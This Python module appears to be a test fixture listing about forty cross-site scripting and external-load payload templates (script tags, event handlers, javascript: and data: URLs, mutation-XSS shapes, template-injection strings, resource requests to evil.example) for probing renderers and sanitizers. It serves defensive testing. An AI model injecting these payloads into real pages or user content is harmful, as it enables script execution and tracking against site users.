"""Hostile text: markup, script, links and requests to another origin, in the shapes that
break renderers, sanitizers and templates. `{n}` is the template's number; every template
starts with a visible marker (`MARK{n}`) so a page can be seen to show it.

A payload that ran would set `window.__xss` or open a dialog; one that loaded anything would
ask evil.example (or a javascript:/data: URL) for it.
"""

from __future__ import annotations

RUN = "(window.__xss=window.__xss||[]).push('{n}')"
EVIL = "https://evil.example"

TEMPLATES = [
    "<script>" + RUN + "</script>",
    '<img src=x onerror="' + RUN + '">',
    '<svg onload="' + RUN + '">',
    "<svg><script>" + RUN + "</script></svg>",
    "<iframe src=\"javascript:parent.__xss='{n}'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss='{n}'</script>\"></iframe>",
    "[click me](javascript:window.__xss='{n}')",
    "![pixel](" + EVIL + "/md-img-{n}.png)",
    '<img src="' + EVIL + '/img-{n}.png">',
    '<link rel="stylesheet" href="' + EVIL + '/css-{n}.css">',
    '<style>@import url("' + EVIL + '/import-{n}.css");</style>',
    '<div style="background:url(' + EVIL + '/bg-{n}.png)">bg</div>',
    '<object data="' + EVIL + '/obj-{n}"></object>',
    '<embed src="' + EVIL + '/embed-{n}">',
    '<meta http-equiv="refresh" content="0;url=' + EVIL + '/refresh-{n}">',
    '<base href="' + EVIL + '/base-{n}/">',
    '<div hx-get="' + EVIL + '/htmx-{n}" hx-trigger="load">htmx</div>',
    '<div hx-on:htmx:load="window.__xss=\'{n}\'" hx-get="/" hx-trigger="load">on</div>',
    "<details open ontoggle=\"window.__xss='{n}'\">details</details>",
    "<input autofocus onfocus=\"window.__xss='{n}'\">",
    "<video><source onerror=\"window.__xss='{n}'\"></video>",
    "<body onload=\"window.__xss='{n}'\">",
    '"><script>' + RUN + "</script>",
    "'><img src=x onerror=window.__xss='{n}'>",
    "</textarea><script>" + RUN + "</script>",
    "</title></script></style><script>" + RUN + "</script>",
    "{{{{7*7}}}} {{% debug %}} ${{window.__xss='{n}'}}",
    '<math><mtext><table><mglyph><style><img src=x onerror="' + RUN + '">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='{n}'>\">",
    "<!--<img src=x onerror=window.__xss='{n}'>-->",
    "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    '<img srcset="' + EVIL + '/srcset-{n}.png 1x">',
    "<a href=\"jav&#x09;ascript:window.__xss='{n}'\">tab</a>",
    "<svg><a xlink:href=\"javascript:window.__xss='{n}'\"><text>svg link</text></a></svg>",
    "```html\n<script>" + RUN + "</script>\n```",
    '<script src="' + EVIL + '/script-{n}.js"></script>',
    '<audio src="' + EVIL + '/audio-{n}.mp3" autoplay></audio>',
    "<marquee onstart=\"window.__xss='{n}'\">marquee</marquee>",
    '<form action="'
    + EVIL
    + '/form-{n}"><button formaction="javascript:window.__xss=\'{n}\'">go</button></form>',
    "\u202e<script>" + RUN + "</script>\u202c",
    '<a href="' + EVIL + '/ping-{n}" ping="' + EVIL + '/ping-{n}">ping</a>',
    '<img src="/static/x.png" onerror="' + RUN + '">',
]


def payloads() -> list[str]:
    """Every template, numbered and marked."""
    return [f"MARK{n} " + template.format(n=n) for n, template in enumerate(TEMPLATES)]
